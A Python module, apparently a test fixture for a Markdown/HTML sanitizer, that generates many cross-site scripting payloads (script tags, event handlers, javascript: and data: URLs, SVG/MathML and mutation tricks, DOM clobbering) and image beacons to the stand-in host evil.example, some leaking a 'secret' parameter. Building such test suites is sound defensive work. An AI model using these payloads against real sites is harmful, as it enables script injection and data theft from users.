"""Hostile answers: families of attacks, each with its variations."""

from itertools import product

RUN = "window.hacked=1"
EVIL = "evil.example"

CARRIERS = ("{}", "text {} text", "- {}", "> {}", "| a |\n|---|\n| {} |", "# {}", "**{}**")


def payloads() -> dict[str, list[str]]:
    """The payloads of each family by its name."""
    return {name.replace("_", " "): list(family()) for name, family in _FAMILIES.items()}


def _family(function):
    _FAMILIES[function.__name__] = function
    return function


_FAMILIES: dict = {}


@_family
def raw_html():
    elements = (
        f"<script>{RUN}</script>",
        f"<script src=//{EVIL}/x.js></script>",
        f"<SCRIPT\n>{RUN}</SCRIPT\n>",
        f"<iframe src=//{EVIL}></iframe>",
        f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
        f"<object data=//{EVIL}/x.swf></object>",
        f"<embed src=//{EVIL}/x.swf>",
        f"<base href=//{EVIL}/>",
        f"<meta http-equiv=refresh content='0;url=//{EVIL}'>",
        f"<link rel=stylesheet href=//{EVIL}/x.css>",
        f"<form action=//{EVIL}><button>Go</button></form>",
        f"<video autoplay src=//{EVIL}/x.mp4></video>",
    )
    for element, carrier in product(elements, CARRIERS[:4]):
        yield carrier.format(element)


@_family
def event_handlers():
    tags = ("img src=x", "svg", "body", "input autofocus", "details open", "a href=x", "p")
    events = ("onerror", "onload", "onfocus", "ontoggle", "ONMOUSEOVER")
    for tag, event in product(tags, events):
        yield f'<{tag} {event}="{RUN}">'
    yield f'[a](https://example.org "x" onclick={RUN})'
    yield f'[a](https://example.org "\\" onmouseover=\\"{RUN}")'
    yield f"<img/src=x/onerror={RUN}//"


@_family
def script_addresses():
    schemes = (
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "java&#x0A;script:",
        "&#106;avascript:",
        "&#x6A;&#x61;vascript&colon;",
        "javascript&#58;",
        "%6Aavascript:",
        "\x01javascript:",
        " javascript:",
        "vbscript:",
        "livescript:",
        "feed:javascript:",
        "view-source:javascript:",
        "jar:javascript:",
        "blob:https://example.org/",
        "filesystem:https://example.org/",
        "file:///",
    )
    for scheme in schemes:
        yield f"[a]({scheme}{RUN})"
        yield f"[a](<{scheme}{RUN}>)"
        yield f"![a]({scheme}{RUN})"


@_family
def data_addresses():
    bodies = (
        f"data:text/html,<script>{RUN}</script>",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=",
        f"data:image/svg+xml,<svg onload={RUN}>",
        "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9aGFja2VkPTE+",
        "data:image/png;base64,iVBORw0KGgo=",
        "DATA:text/javascript,hacked=1",
    )
    for body in bodies:
        yield f"[a](<{body}>)"
        yield f"![a](<{body}>)"
        yield f"<{body}>"


@_family
def svg_and_mathml():
    yield f"<svg><script>{RUN}</script></svg>"
    yield f"<svg onload={RUN}></svg>"
    yield f"<svg><a xlink:href='javascript:{RUN}'><text>a</text></a></svg>"
    yield f"<svg><animate onbegin={RUN} attributeName=x dur=1s>"
    yield f"<svg><use href='https://{EVIL}/x.svg#a'/></svg>"
    yield f"<svg><image href='https://{EVIL}/x.png'/></svg>"
    yield f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>"
    yield f"<svg><set attributeName=href to=javascript:{RUN} /></svg>"
    yield f"<math><mtext><img src=x onerror={RUN}></mtext></math>"
    yield f"<math href='javascript:{RUN}'>a</math>"
    yield f"<math><annotation-xml encoding='text/html'><script>{RUN}</script>"
    yield f"<math><maction actiontype='statusline#//{EVIL}'>a</maction></math>"


@_family
def link_definitions():
    titles = ("", ' "title"', f" '\"onmouseover={RUN} x=\"'", f" (</a><script>{RUN}</script>)")
    targets = (f"javascript:{RUN}", f"//{EVIL}/x.png", "data:text/html,x")
    for title, target in product(titles, targets):
        yield f"[a]\n\n[a]: {target}{title}"
        yield f"![a]\n\n[a]: {target}{title}"


@_family
def autolinks():
    addresses = (
        f"javascript:{RUN}",
        f'https://{EVIL}"onmouseover={RUN}',
        f"https://{EVIL}/'><script>{RUN}</script>",
        f"https://good.example@{EVIL}/",
        f"https://good.example\\@{EVIL}/",
        f"https://{EVIL}#@good.example",
        f"https:///{EVIL}",
        f"https:{EVIL}",
        f"//{EVIL}",
        f"a@{EVIL}?body=x",
        "https://аррӏе.example",
        f"ftp://{EVIL}/",
    )
    for address in addresses:
        yield f"<{address}>"
        yield f"[https://good.example](<{address}>)"


@_family
def image_beacons():
    addresses = (
        f"https://{EVIL}/p.png?q=secret",
        f"//{EVIL}/p.png",
        f"\\\\{EVIL}\\p.png",
        f"http:\\\\{EVIL}",
        f"https://{EVIL}/p.png =1x1",
        "/accounts/logout",
        "x",
        "",
    )
    for address, carrier in product(addresses, CARRIERS[:5]):
        yield carrier.format(f"![p]({address})")
    yield f"[![p](https://{EVIL}/p.png)](https://{EVIL}/)"
    yield f'![p](https://{EVIL}/p.png "x" onerror={RUN})'
    yield f"![![p](https://{EVIL}/p.png)](https://{EVIL}/q.png)"
    yield f'!["onerror="{RUN}](https://{EVIL}/p.png)'


@_family
def nested_and_mutating():
    yield f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>"
    yield f"<style><style/><img src=x onerror={RUN}>"
    yield f"<textarea><img title='</textarea><img src=x onerror={RUN}>'>"
    yield f"<title><img title='</title><img src=x onerror={RUN}>'>"
    yield f"<xmp><img title='</xmp><img src=x onerror={RUN}>'>"
    yield f"<math><mtext><table><mglyph><style><!--</style><b title='--><img onerror={RUN}>'>"
    yield f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>"
    yield f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>"
    yield f"<scr<script>ipt>{RUN}</scr</script>ipt>"
    yield f"<<script>script>{RUN}<</script>/script>"
    yield f"<!--><img src=x onerror={RUN}>-->"
    yield f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->"
    yield f"<![CDATA[><script>{RUN}</script>]]>"
    yield f"<?xml ?><img src=x onerror={RUN}>"
    yield f"*<b*onmouseover={RUN}>*</b>*"
    yield f"`<img src=x` onerror={RUN}>"


@_family
def entities():
    yield f"&lt;script&gt;{RUN}&lt;/script&gt;"
    yield f"&#60;script&#62;{RUN}&#60;/script&#62;"
    yield f"&#x3c;img src=x onerror={RUN}&#x3e;"
    yield f"&#0000060;script>{RUN}&#0000060;/script>"
    yield f"&amp;lt;script&amp;gt;{RUN}"
    yield f"[a](https://example.org/&quot;onmouseover=&quot;{RUN})"
    yield f"[a](https://example.org/&#34;&#62;&#60;script&#62;{RUN})"
    yield f"[&quot;&gt;&lt;img src=x onerror={RUN}&gt;](https://example.org)"
    yield f"![&quot;onerror={RUN} x=&quot;](https://{EVIL}/p.png)"
    yield f"[a](&#x6a&#x61&#x76&#x61script:{RUN})"
    yield f"\\<script>{RUN}\\</script>"
    yield f"&NewLine;&Tab;<script>{RUN}</script>"


@_family
def characters():
    odd = (
        "\x00",
        "\x0b",
        "\x0c",
        "\r",
        "\x1b",
        "\x7f",
        "\x85",
        "\xa0",
        "\u200b",
        "\u2028",
        "\u202e",
        "\u2066",
        "\ufeff",
        "\ufffe",
        "\ud800",
        "\U000e0041",
        "＜script＞",
        "\u017f",
    )
    for character in odd:
        yield f"<{character}script>{RUN}</script>"
        yield f"<img{character}src=x{character}onerror={RUN}>"
        yield f"[a](java{character}script:{RUN})"


@_family
def code_blocks():
    fences = ("```", "~~~", "````")
    infos = (
        f'"><script>{RUN}</script>',
        f'python" onmouseover="{RUN}',
        f"python onmouseover={RUN}",
        'language-x" id="x',
        "&quot;onclick=&quot;x",
        "a" * 300,
        "html",
    )
    for fence, info in product(fences, infos):
        if "`" in info:
            continue
        yield f"{fence}{info}\n</code></pre><script>{RUN}</script>\n{fence}"
    yield f"```html\n</code></pre></div><img src=x onerror={RUN}>"
    yield f"    </code></pre><script>{RUN}</script>"
    yield f"``</code><script>{RUN}</script>``"
    yield f'```\n<button data-copy-code onclick="{RUN}">\n```'


@_family
def styles():
    yield f"<style>@import '//{EVIL}/x.css';</style>"
    yield f"<p style='background:url(//{EVIL}/x.png)'>a</p>"
    yield f'<div style="width:expression({RUN})">a</div>'
    yield "<b style='position:fixed;inset:0'>a</b>"
    yield f"<link rel='preload' as='image' href='//{EVIL}/x.png'>"
    yield "<p class='notice error'>You are signed out</p>"
    yield f"[a](https://example.org){{style='background:url(//{EVIL})'}}"
    yield f"<svg><style>*{{background:url(//{EVIL}/x.png)}}</style></svg>"


@_family
def tables():
    cells = (
        f"<script>{RUN}</script>",
        f"<img src=//{EVIL}/p.png>",
        f"![p](https://{EVIL}/p.png)",
        f"[a](javascript:{RUN})",
        f"</td></table><script>{RUN}</script>",
        f"\\|<b onclick={RUN}>",
    )
    for cell in cells:
        yield f"| {cell} | b |\n| :-: | --: |\n| 1 | 2 |"
        yield f"| a | b |\n| --- | --- |\n| {cell} | {cell} |"
    yield f'| a |\n|:-" style="x:expression({RUN})|\n| b |'
    yield f"<table background=//{EVIL}/x.png><tr><td>a"


@_family
def deep_nesting():
    inner = f"<script>{RUN}</script> ![p](https://{EVIL}/p.png)"
    for opening, closing in (
        ("> ", ""),
        ("- ", ""),
        ("1. ", ""),
        ("**", "**"),
        ("[", "](https://example.org)"),
        ("![", f"](https://{EVIL}/p.png)"),
        ("<div>", "</div>"),
        ("~~", "~~"),
    ):
        for depth in (3, 12, 40):
            yield opening * depth + inner + closing * depth


@_family
def templates_and_htmx():
    yield f"<div hx-get='//{EVIL}/' hx-trigger='load'></div>"
    yield "<button hx-post='/chat/delete' hx-trigger='load'>a</button>"
    yield f"<div data-hx-get='//{EVIL}/' data-hx-trigger='load'></div>"
    yield f"<div hx-on:load='{RUN}'></div>"
    yield f"<div hx-vals='js:{{a:{RUN}}}' hx-get=x hx-trigger=load></div>"
    yield "<div hx-swap-oob='true' id='main'>a</div>"
    yield f"<template><script>{RUN}</script></template>"
    yield f"<template shadowrootmode=open><img src=x onerror={RUN}></template>"
    yield f"<x-widget is='x' src=//{EVIL}></x-widget>"
    yield "{{ settings.SECRET_KEY }} {% load static %} {% include 'x' %}"
    yield f"${{{RUN}}} #{{{RUN}}} <%= {RUN} %>"
    yield "<button data-copy='#secret' data-confirm='x'>Copy</button>"


@_family
def clobbering():
    names = ("main", "csrfmiddlewaretoken", "body", "htmx", "messages", "cookie", "location")
    for name in names:
        yield f"<a id={name}></a>"
        yield f"<form name={name}><input name=action></form>"
        yield f"# Heading {{#{name}}}"
